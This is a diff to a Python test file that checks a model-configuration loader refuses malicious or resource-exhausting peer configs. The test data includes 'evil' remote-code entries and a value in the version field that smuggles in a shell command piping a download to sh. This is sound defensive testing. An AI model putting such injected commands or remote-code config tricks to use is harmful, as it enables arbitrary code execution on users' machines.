@@ -1,6 +1,8 @@
 """Models that transformers builds, in three stages: the same logits, gradients, files and texts."""
 
 import json
+import subprocess
+import sys
 from pathlib import Path
 from typing import Any
 
@@ -169,6 +171,9 @@ def config_of(**changes: Any) -> dict[str, Any]:
         ({"model_type": "t5gemma"}, "model_type is t5gemma"),
         ({"hidden_size": "wide"}, "config.json does not describe a model"),
         ({"num_attention_heads": 0}, "config.json does not describe a model"),
+        ({"rms_norm_eps": float("nan")}, "a number is NaN"),
+        ({"use_bidirectional_attention": True}, "use_bidirectional_attention"),
+        ({"num_hidden_layers": 10**9}, "num_hidden_layers is 1000000000"),
     ],
 )
 def test_what_can_not_be_trained_is_refused_by_name(changes: dict[str, Any], told: str) -> None:
@@ -200,11 +205,17 @@ def test_hosts_must_have_the_same_release(monkeypatch: pytest.MonkeyPatch, mistr
         {"auto_map": {"AutoModel": "evil.Model"}},
         {"_attn_implementation": "evil/kernel"},
         {"attn_implementation": "evil/kernel"},
+        {"attribute_map": {"zz": "_attn_implementation_internal"}, "zz": "evil/kernel"},
+        {"transformers_version": "';curl x.io|sh;'"},
+        {"num_hidden_layers": 10**9},
+        {"hidden_size": 2 * 10**9},
+        {"quantization_config": {"bits": 4}},
+        {"return_dict": False},
         {"model_type": "bert"},
         {"model_type": ["mistral"]},
     ],
 )
-def test_a_peer_can_not_have_transformers_fetch_code(
+def test_a_peer_can_not_have_transformers_fetch_code_or_take_all_memory(
     mistral: Path, changes: dict[str, Any]
 ) -> None:
     config = canonical(json.loads(model_in(mistral).config) | changes)
@@ -216,6 +227,20 @@ def test_a_peer_can_not_have_transformers_fetch_code(
 def test_a_peer_s_configuration_has_one_form(config: str) -> None:
     with pytest.raises(ConfigError, match=r"model\.config is"):
         ModelConfig(model_type=Architecture.TRANSFORMERS, config=config)
+
+
+def test_the_layout_is_found_without_modules_of_the_working_folder(
+    mistral: Path, tmp_path: Path
+) -> None:
+    """A model's folder may hold code."""
+    (tmp_path / "torch.py").write_text("import os; os.mkdir('ran')")
+    config = model_in(mistral).config
+    program = f"from decod.model.layouts import layout_of; print(layout_of({config!r}).sizes)"
+    done = subprocess.run(
+        [sys.executable, "-P", "-c", program], cwd=tmp_path, capture_output=True, check=True
+    )
+    assert b"'hidden_size': 64" in done.stdout
+    assert not (tmp_path / "ran").exists()
 
 
 def test_sizes_are_those_of_the_configuration(mistral: Path) -> None:
